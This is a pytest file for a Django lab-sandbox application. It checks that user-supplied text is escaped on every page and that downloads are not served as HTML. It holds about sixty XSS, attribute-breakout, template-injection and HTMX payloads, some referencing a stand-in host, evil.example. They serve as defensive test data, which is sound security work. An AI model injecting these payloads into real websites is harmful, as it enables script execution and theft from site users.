"""Whatever people and programs write is shown as text on every page: no element, attribute or template."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

import pytest
from django.urls import reverse

from sandboxes.labs.models import Course, Enrollment, Hand, Lab, LabRun, LabTemplate, Message, Seat
from sandboxes.lifecycle import audit
from sandboxes.models import Command, Event, Image, Recording, Sandbox, User

from .rules import ROUTES, address
from .test_admin import addresses
from .test_secrets import content
from .world import HERE, World

pytestmark = pytest.mark.django_db
MARK = "xq7"
"""What shows a payload that came alive: the name of an element or an attribute, or a sum that was done."""
ELEMENTS = [
    "<{m}>",
    "<img src=x onerror={m}()>",
    "<svg onload={m}()>",
    "<script>{m}()</script>",
    "<b {m}=1>x</b>",
    "<iframe srcdoc='<script>{m}()</script>'>",
    "<style>@import '//evil.example/{m}'</style>",
    "<base href=//{m}>",
    "<a href='javascript:{m}()'>x</a>",
    "<form action=//evil.example/{m}><input name={m}>",
    "<meta {m} http-equiv=refresh>",
    "</title><{m}>",
    "</textarea><{m}>",
    "</script><{m}>",
    "</style><{m}>",
    "--><{m}>",
    "]]><{m}>",
    "<!--><{m}>",
    "<math><mi {m}=1>",
    "<details open ontoggle={m}()>",
    "<video><source onerror={m}()>",
    "<object data=//{m}>",
    "<link rel=stylesheet href=//{m}>",
    "<template><{m}></template>",
    "<noscript><{m}></noscript>",
    "<plaintext {m}>",
    "<div hx-get=/{m} hx-trigger=load>",
    "<div data-hx-on:load={m}()>",
    "<sandbox-terminal {m}>",
    "<ScRiPt>{m}()</sCrIpT>",
    "<<{m}>{m}>",
    "<{m}/x>",
    "<img/src=x/onerror={m}()>",
    "<\x0c{m}>",
    "\ufeff<{m}>",
    "\u202e<{m}>",
]
ATTRIBUTES = [
    '" {m}="1',
    "' {m}='1",
    '"><{m}>',
    "'><{m}>",
    "` {m}=`",
    '" autofocus onfocus="{m}()',
    "' onmouseover='{m}()",
    '"\t{m}=1 x="',
    '"\n{m}=1 x="',
    "&quot; {m}=1",
    "&#34; {m}=1",
    "&lt;{m}&gt;",
    "&#x3c;{m}>",
    "%22 {m}=1",
    "%3C{m}%3E",
    'x" hx-get="/{m}',
    'x" hx-on::load="{m}()',
    'x" style="background:url(//{m})',
    '\\"{m}',
    "\\u003c{m}\\u003e",
]
TEMPLATES = [
    "{{{{{m}}}}}",
    "{{% {m} %}}",
    "{{% include '{m}' %}}",
    "${{{m}}}",
    "#{{{m}}}",
    "[[{m}]]",
    "<%= {m} %>",
    "@{{{m}}}",
    "javascript:{m}()",
    "data:text/html,<{m}>",
    "//evil.example/{m}",
    "\x1b]8;;javascript:{m}\x07",
]
PAYLOADS = [one.format(m=MARK) for one in [*ELEMENTS, *ATTRIBUTES, *TEMPLATES]]


SHORT = 60
"""Characters that the shortest of the columns takes."""
LEADING = ("href", "src", "action", "formaction")


class Alive(HTMLParser):
    """What of a page is not as its templates made it."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = [name for name, _ in attrs]
        if MARK in tag or any(
            MARK in name or name.startswith("on") or name.startswith("hx-on") for name in names
        ):
            self.found.append(self.get_starttag_text() or tag)
        if tag in ("iframe", "object", "base", "embed", "plaintext") or (
            tag == "script" and "nonce" not in names
        ):
            self.found.append(self.get_starttag_text() or tag)
        for name, value in attrs:
            leads = (value or "").strip().lower()
            if name in ("href", "src", "action", "formaction") and leads.startswith(
                ("javascript:", "data:text", "//")
            ):
                self.found.append(self.get_starttag_text() or tag)


def write(world: World, text: str) -> None:
    """The text wherever somebody's text is shown, past all forms: old rows and other programs write too."""
    short = text[:SHORT]
    for model, columns in {
        Sandbox: ("name", "status_reason", "status_detail", "workdir"), Image: ("title", "description"),
        Course: ("title",), LabTemplate: ("title",), Lab: ("title",), Seat: ("reason", "saved_reason"),
        Enrollment: ("name", "section", "student_id", "email"), Hand: ("text",), LabRun: ("text", "by_name"),
        User: ("first_name", "last_name"), Command: ("text", "reason", "by_name"),
        Recording: ("sandbox_name", "owner_name", "opened_by", "ended_reason", "terminal_name"),
    }.items():  # fmt: skip
        fields = {name: model._meta.get_field(name).max_length for name in columns}
        model._default_manager.update(**{name: text[:most] for name, most in fields.items()})
    data = text.encode("utf-8", "replace")
    Command.objects.update(stdout=data, stderr=data, stdout_bytes=len(data), stderr_bytes=len(data))
    lab = world.places[HERE].lab
    Message.objects.create(lab=lab, by_name=short, text=text[:1000])
    sandbox = Sandbox.objects.select_related("owner").get(pk=world.places[HERE].sandbox.pk)
    audit.record("sandbox.stop", audit.Origin("user", name=short), sandbox, reason=text, detail={text: text})


def pages(world: World) -> list[tuple[Any, str]]:
    """Each page once, by somebody who may see it."""
    place = world.places[HERE]
    found = []
    for name, row in ROUTES.items():
        roles = [role for role, where in sorted(row.get or ()) if where == HERE]
        if roles and name not in NO_PAGES:
            best = next(one for one in ("instructor", "auditor", "student", roles[0]) if one in roles)
            found.append((world.browser(best), address(name, world, place, place)))
    auditor = world.browser("auditor")
    return found + [
        (auditor, path) for name, path in addresses(world) if name.endswith(("_changelist", "_change"))
    ]


NO_PAGES = {"recording_cast", "recording_download", "command_output", "seat_work", "roster_export",
            "lab_run_csv", "overview_csv"}  # fmt: skip
"""Files, which are sent as such."""


@pytest.mark.parametrize("part", range(4))
def test_what_anybody_writes_is_text(world: World, part: int) -> None:
    """Each on the pages that show most of it; the longest of this part on every page there is."""
    some = PAYLOADS[part::4]
    assert len(PAYLOADS) >= 60
    assert max(map(len, PAYLOADS)) <= SHORT
    alive = [one for payload in some for one in come_alive(world, payload, first_pages(world))]
    alive += come_alive(world, max(some, key=len), pages(world))
    assert alive == []


def come_alive(world: World, payload: str, where: list[tuple[Any, str]]) -> list[tuple[str, str, list[str]]]:
    """The pages on which a payload is more than text."""
    write(world, payload)
    answers = [(path, client.get(path)) for client, path in where]
    found = [(path, payload, living(content(one))) for path, one in answers if one.status_code == 200]
    return [one for one in found if one[2]]


def first_pages(world: World) -> list[tuple[Any, str]]:
    """Those that show most of it."""
    place = world.places[HERE]
    staff = ("sandbox_detail", "wall", "look", "roster_list", "lab_detail", "seat_story", "command_detail")
    found = [(world.browser("instructor"), address(name, world, place, place)) for name in staff]
    return [*found, (world.browser("student"), address("seat_detail", world, place, place))]


def living(page: str) -> list[str]:
    parser = Alive()
    parser.feed(page)
    return parser.found


def test_the_check_notices_what_it_is_for() -> None:
    """A check that finds nothing anywhere would prove nothing."""
    noticed = [
        one for one in PAYLOADS if living(one) or living(f'<a title="{one}">') or living(f"<a title='{one}'>")
    ]
    assert len(noticed) > 40


def test_files_are_sent_as_files(world: World) -> None:
    """Whatever is in them, a browser shows none of it as a page."""
    write(world, PAYLOADS[1])
    place = world.places[HERE]
    for name in sorted(NO_PAGES):
        answer = world.browser("instructor").get(address(name, world, place, place))
        assert answer.status_code == 200, name
        assert not answer.headers["Content-Type"].startswith(
            ("text/html", "image/svg", "application/xhtml")
        ), name
        assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_events_keep_nothing_that_steers(world: World) -> None:
    write(world, "".join(PAYLOADS))
    kept = Event.objects.filter(action="sandbox.stop").order_by("-id").first()
    assert kept is not None
    assert reverse("home") == "/"
    assert not {chr(code) for code in (*range(32), 127, *range(0x80, 0xA0))} & set(kept.reason)
